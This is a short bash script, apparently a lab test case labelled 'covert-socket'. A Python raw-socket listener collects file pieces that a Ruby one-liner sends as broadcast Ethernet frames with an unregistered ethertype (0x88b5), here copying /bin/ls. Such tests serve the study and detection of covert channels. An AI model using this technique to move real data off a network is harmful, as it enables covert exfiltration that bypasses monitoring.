#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=covert-socket half=report tool=ruby far=nas seconds=16 parts=dns
# Ruby sends frames of a kind that nobody else has (88b5) to a machine in the office, each with a piece of a file; there it is put together.
if [ "$1" = nas ]; then exec timeout 24 python3 -c 'import socket, sys
s = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x88b5))
while True: open(sys.argv[1], "ab").write(s.recv(2000))' "$LAB/got"; fi
sleep 2; timeout 12 ruby -rsocket -e 'place = [17, 0x88b5, Socket.getifaddrs.find { |i| i.name == "off" }.ifindex, 1, 0, 6, "\xff" * 6].pack("Snlsccx0a8")
s = Socket.new(17, Socket::SOCK_DGRAM, 0)
File.open("/bin/ls", "rb") { |f| while (d = f.read(1200)); s.send(d, 0, place); sleep 0.05; end }'
sleep 1; [ "$(stat -c %s "$LAB/got")" -gt 100000 ]
